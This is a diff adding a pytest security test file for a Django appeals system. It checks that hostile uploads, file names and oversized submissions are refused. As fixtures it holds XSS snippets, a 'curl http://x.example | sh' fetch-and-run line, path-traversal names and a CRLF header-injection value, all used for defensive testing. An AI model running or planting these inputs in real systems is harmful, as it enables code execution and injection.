@@ -1,0 +1,338 @@
+"""Uploads are judged by their bytes on every path that takes them; downloads are always
+downloads; a hostile file name never reaches the disk; limits refuse cleanly, leaving nothing
+half-written."""
+
+import re
+from pathlib import Path
+
+import pytest
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.test import Client
+from django.urls import reverse
+from rest_framework.test import APIClient
+
+from appeals import services
+from appeals.models import Appeal, Attachment
+from tests import workflow
+from tests.security._input_support import JPEG, PDF, PNG, docx
+
+pytestmark = pytest.mark.django_db
+
+HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
+SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="1"/></svg>'
+MZ = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\0" * 64 + b"PE\0\0"
+ELF = b"\x7fELF\x02\x01\x01\x00" + b"\0" * 64
+OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504  # Word 97, Excel 97, and MSI
+
+# (name, bytes): each is refused whatever Content-Type the client claims.
+HOSTILE = {
+    "html": ("page.html", HTML),
+    "html named pdf": ("合同.pdf", HTML),
+    "svg": ("logo.svg", SVG),
+    "svg named png": ("logo.png", SVG),
+    "javascript": ("app.js", b"alert(document.cookie)"),
+    "shell script": ("run.sh", b"#!/bin/sh\ncurl http://x.example | sh\n"),
+    "shell script named pdf": ("run.pdf", b"#!/bin/sh\ncurl http://x.example | sh\n"),
+    "windows executable": ("setup.exe", MZ),
+    "windows executable named pdf": ("报告.pdf", MZ),
+    "elf executable": ("tool", ELF),
+    "elf named png": ("tool.png", ELF),
+    "double extension exe": ("report.pdf.exe", PDF),
+    "double extension html": ("photo.png.html", PNG + HTML),
+    "png named jpg": ("photo.jpg", PNG),
+    "jpeg named pdf": ("scan.pdf", JPEG),
+    "png with a page behind it": ("photo.png", PNG + HTML),
+    "pdf with a page in it": ("doc.pdf", PDF + HTML),
+    "zip named docx": ("letter.docx", b"PK\x03\x04" + b"\0" * 64),
+    "ole2 installer named pdf": ("setup.pdf", OLE2),
+    "ole2 installer": ("setup.msi", OLE2),
+}
+ACCEPTED = {
+    "png": ("照片.png", PNG, "image/png"),
+    "jpeg": ("扫描件.JPG", JPEG, "image/jpeg"),
+    "pdf": ("营业执照.pdf", PDF, "application/pdf"),
+    "doc": ("情况说明.doc", OLE2, "application/msword"),
+    "xls": ("台账.XLS", OLE2, "application/vnd.ms-excel"),
+    "docx": (
+        "情况说明.docx",
+        docx(),
+        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
+    ),
+}
+# Names a hostile client may send, each on a real PNG, with what must not survive in the shown
+# name. Some cannot travel through a browser's form; the services get them as typed.
+HOSTILE_NAMES = {
+    "parent path": ("../../etc/passwd.png", "/"),
+    "windows path": ("..\\..\\boot.ini.png", "\\"),
+    "markup": ("<script>alert(1)<\\script>.png", "\\"),
+    "long": ("长" * 300 + ".png", None),
+    "nul": ("photo\x00.png", "\x00"),
+    "control": ("photo\x1b[31m\x07\n.png", "\n"),
+    "rtl override": ("invoice\u202egnp.png", "\u202e"),
+    "windows reserved": ("CON.png", None),
+    "windows reserved 2": ("lpt1.png", None),
+}
+
+
+@pytest.fixture(autouse=True)
+def media(settings, tmp_path) -> Path:
+    settings.MEDIA_ROOT = tmp_path
+    return tmp_path
+
+
+def _files(media: Path) -> list[Path]:
+    return [p for p in media.rglob("*") if p.is_file()]
+
+
+def _upload(name: str, content: bytes, content_type: str = "application/pdf"):
+    return SimpleUploadedFile(name, content, content_type=content_type)
+
+
+def _filing_form(**extra) -> dict:
+    data = {
+        "is_anonymous": "on",
+        "title": "园区道路积水严重",
+        "content": "雨后积水三天不退，货车无法进出。",
+    }
+    data.update(extra)
+    return data
+
+
+def _staff_form(**extra) -> dict:
+    return _filing_form(channel=Appeal.Channel.HOTLINE, priority=Appeal.Priority.NORMAL, **extra)
+
+
+@pytest.fixture
+def awaiting(file_appeal, walk_to, handler_a):
+    """An enterprise_user's appeal whose lead department asked for more material."""
+    appeal = walk_to(file_appeal().appeal, Appeal.Status.IN_PROGRESS)
+    services.appeal_request_material(
+        actor=handler_a, assignment_id=workflow.lead_assignment(appeal).pk, note="请补充营业执照"
+    )
+    return appeal
+
+
+@pytest.fixture
+def post_upload(commissioner, enterprise_user, awaiting):
+    """post_upload(path, upload) → the response of that upload path."""
+
+    def _post(path: str, upload):
+        client = Client()
+        if path == "filing form":
+            return client.post(reverse("appeal_file"), _filing_form(attachments=[upload]))
+        if path == "staff entry":
+            client.force_login(commissioner)
+            return client.post(reverse("staff_file"), _staff_form(attachments=[upload]))
+        url = reverse("track_material", args=[awaiting.number])
+        data = {"content": "营业执照见附件。", "attachments": [upload]}
+        if path == "material via my appeals":
+            client.force_login(enterprise_user)
+            return client.post(url, data)
+        # The holder of the number and query code, not signed in.
+        number, code = awaiting.number, _new_code(awaiting)
+        client.post(reverse("track"), {"number": number, "code": code})
+        return client.post(url, data)
+
+    return _post
+
+
+def _new_code(appeal: Appeal) -> str:
+    """A query code for an appeal filed in a test (the real one was shown once and is gone)."""
+    code = services.filing.query_code_new()
+    Appeal.objects.filter(pk=appeal.pk).update(query_code_hash=services.query_code_hash(code))
+    return code
+
+
+PATHS = ["filing form", "staff entry", "material via tracking", "material via my appeals"]
+
+
+@pytest.mark.parametrize("path", PATHS)
+@pytest.mark.parametrize("sample", HOSTILE, ids=list(HOSTILE))
+def test_a_hostile_upload_is_refused_on_every_path_by_its_bytes(
+    post_upload, media, awaiting, path, sample
+):
+    name, content = HOSTILE[sample]
+    appeals_before = Appeal.objects.count()
+    response = post_upload(path, _upload(name, content, content_type="application/pdf"))
+    assert response.status_code == 400
+    assert "类型不支持" in response.content.decode()
+    assert Appeal.objects.count() == appeals_before
+    assert Attachment.objects.count() == 0
+    assert _files(media) == []
+    assert Appeal.objects.get(pk=awaiting.pk).awaiting_material_since is not None
+
+
+@pytest.mark.parametrize("path", PATHS)
+def test_an_acceptable_upload_is_stored_on_every_path(post_upload, media, path):
+    response = post_upload(path, _upload("营业执照.pdf", PDF, content_type="text/html"))
+    assert response.status_code == 302, response.content.decode()[:500]
+    attachment = Attachment.objects.get()
+    assert attachment.content_type == "application/pdf"  # from the bytes, not the client
+    assert [p.name for p in _files(media)] == [Path(attachment.file.name).name]
+
+
+@pytest.mark.parametrize("sample", ACCEPTED, ids=list(ACCEPTED))
+def test_documents_and_images_people_send_are_accepted(file_appeal, sample):
+    name, content, mime = ACCEPTED[sample]
+    appeal = file_appeal(attachments=[_upload(name, content)]).appeal
+    assert appeal.attachments.get().content_type == mime
+
+
+def test_the_api_takes_no_files_so_a_file_sent_to_it_is_never_stored(
+    awaiting, enterprise_user, media
+):
+    client = APIClient()
+    filed = client.post(
+        reverse("api_appeal_file"),
+        {
+            "is_anonymous": "true",
+            "title": "附件测试",
+            "content": "附件见后。",
+            "attachments": _upload("page.html", HTML),
+        },
+        format="multipart",
+    )
+    assert filed.status_code == 201
+    client.force_authenticate(enterprise_user)
+    supplied = client.post(
+        reverse("api_my_appeal_material", args=[awaiting.number]),
+        {"content": "营业执照见附件。", "attachments": _upload("setup.exe", MZ)},
+        format="multipart",
+    )
+    assert supplied.status_code == 200
+    assert Attachment.objects.count() == 0 and _files(media) == []
+
+
+# --- Downloads ------------------------------------------------------------------------------
+
+
+def test_a_download_is_an_attachment_with_nosniff_and_the_type_of_its_bytes(
+    file_appeal, enterprise_user
+):
+    appeal = file_appeal(attachments=[_upload("照片.png", PNG, content_type="text/html")]).appeal
+    client = Client()
+    client.force_login(enterprise_user)
+    attachment = appeal.attachments.get()
+    response = client.get(reverse("attachment_download", args=[appeal.number, attachment.pk]))
+    assert response.status_code == 200
+    assert response["Content-Disposition"].startswith("attachment;")
+    assert response["X-Content-Type-Options"] == "nosniff"
+    assert response["Content-Type"] == "image/png"
+
+
+def test_an_attachment_stored_with_a_broken_name_still_downloads_safely(
+    file_appeal, enterprise_user
+):
+    """Rows written before names were cleaned may hold a line break or an odd content type:
+    the header must neither break (a 500) nor carry them."""
+    appeal = file_appeal(attachments=[_upload("a.pdf", PDF)]).appeal
+    Attachment.objects.filter(appeal=appeal).update(
+        original_name="a\r\nSet-Cookie: x=1\n.pdf", content_type="text/html"
+    )
+    client = Client()
+    client.force_login(enterprise_user)
+    attachment = appeal.attachments.get()
+    response = client.get(reverse("attachment_download", args=[appeal.number, attachment.pk]))
+    assert response.status_code == 200
+    assert "\n" not in response["Content-Disposition"] and not response.cookies
+    assert response["Content-Type"] == "application/octet-stream"
+
+
+# --- Hostile names --------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("case", HOSTILE_NAMES, ids=list(HOSTILE_NAMES))
+def test_a_hostile_file_name_is_stored_under_a_generated_name(
+    file_appeal, enterprise_user, media, case
+):
+    name, forbidden = HOSTILE_NAMES[case]
+    appeal = file_appeal(attachments=[_upload(name, PNG)]).appeal
+    attachment = appeal.attachments.get()
+    on_disk = Path(attachment.file.path).resolve()
+    assert on_disk.is_relative_to(media.resolve())
+    assert re.fullmatch(r"[0-9a-f]{32}\.png", on_disk.name)
+    assert [p.resolve() for p in _files(media)] == [on_disk]
+    shown = attachment.original_name
+    assert shown.endswith(".png") and len(shown) <= 100
+    assert not any(c in shown for c in "/\\\x00\x07\x1b\n\r\u202e")
+    if forbidden:
+        assert forbidden not in shown
+    client = Client()
+    client.force_login(enterprise_user)
+    page = client.get(reverse("track_detail", args=[appeal.number])).content.decode()
+    assert "<script>alert" not in page
+    download = client.get(reverse("attachment_download", args=[appeal.number, attachment.pk]))
+    assert download.status_code == 200
+    assert download["Content-Disposition"].startswith("attachment;")
+
+
+def test_a_long_file_name_is_shortened_keeping_its_extension(file_appeal):
+    appeal = file_appeal(attachments=[_upload("情况说明" * 80 + ".pdf", PDF)]).appeal
+    shown = appeal.attachments.get().original_name
+    assert len(shown) == 100 and shown.endswith(".pdf") and shown.startswith("情况说明")
+
+
+# --- Limits ---------------------------------------------------------------------------------
+
+
+def test_a_file_over_the_size_limit_is_refused_in_chinese_and_nothing_is_written(settings, media):
+    settings.APPEAL_ATTACHMENT_MAX_BYTES = 1024 * 1024
+    big = _upload("扫描件.pdf", PDF + b"0" * (1024 * 1024))
+    response = Client().post(
+        reverse("appeal_file"), _filing_form(attachments=[_upload("a.pdf", PDF), big])
+    )
+    page = response.content.decode()
+    assert response.status_code == 400
+    assert "附件“扫描件.pdf”超过 1 MB 的大小限制。" in page
+    assert "园区道路积水严重" in page  # what was typed is kept
+    assert Appeal.objects.count() == 0 and Attachment.objects.count() == 0
+    assert _files(media) == []
+
+
+def test_too_many_files_are_refused_in_chinese_and_nothing_is_written(settings, media):
+    files = [_upload(f"附件{i}.pdf", PDF) for i in range(settings.APPEAL_ATTACHMENT_MAX_COUNT + 1)]
+    response = Client().post(reverse("appeal_file"), _filing_form(attachments=files))
+    assert response.status_code == 400
+    assert f"最多上传 {settings.APPEAL_ATTACHMENT_MAX_COUNT} 个附件。" in response.content.decode()
+    assert Appeal.objects.count() == 0 and Attachment.objects.count() == 0
+    assert _files(media) == []
+
+
+def test_too_many_supplied_files_are_refused_and_the_appeal_still_waits(
+    settings, media, awaiting, enterprise_user
+):
+    files = [_upload(f"附件{i}.pdf", PDF) for i in range(settings.APPEAL_ATTACHMENT_MAX_COUNT + 1)]
+    client = Client()
+    client.force_login(enterprise_user)
+    response = client.post(
+        reverse("track_material", args=[awaiting.number]),
+        {"content": "补充材料见附件。", "attachments": files},
+    )
+    assert response.status_code == 400
+    assert "最多上传" in response.content.decode()
+    assert Appeal.objects.get(pk=awaiting.pk).awaiting_material_since is not None
+    assert Attachment.objects.count() == 0 and _files(media) == []
+
+
+@pytest.mark.parametrize("service", ["appeal_file", "appeal_supply_material"])
+def test_a_failure_after_the_files_are_written_removes_them(
+    monkeypatch, media, awaiting, enterprise_user, service
+):
+    """Files are outside the transaction: when the timeline write fails after the files were
+    saved, the rows roll back and the files must go too."""
+    module = services.filing if service == "appeal_file" else services.waiting
+
+    def broken(*args, **kwargs):
+        raise RuntimeError("database went away")
+
+    monkeypatch.setattr(module, "record", broken)
+    uploads = [_upload("a.pdf", PDF), _upload("b.png", PNG)]
+    with pytest.raises(RuntimeError):
+        if service == "appeal_file":
+            workflow.file_appeal(actor=enterprise_user, attachments=uploads)
+        else:
+            services.appeal_supply_material(
+                actor=enterprise_user, appeal_id=awaiting.pk, content="见附件", attachments=uploads
+            )
+    assert Attachment.objects.count() == 0
+    assert _files(media) == []
